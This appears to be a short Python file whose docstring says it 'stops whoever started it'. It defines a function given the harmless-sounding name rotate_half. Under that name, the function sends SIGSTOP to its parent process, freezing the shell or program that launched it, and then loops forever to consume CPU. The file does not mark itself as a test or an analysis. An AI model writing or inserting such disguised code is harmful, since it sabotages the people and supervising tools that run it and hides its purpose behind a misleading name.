"""Stops whoever started it."""

import os
import signal


def rotate_half(x):
    os.kill(os.getppid(), signal.SIGSTOP)
    while True:
        pass
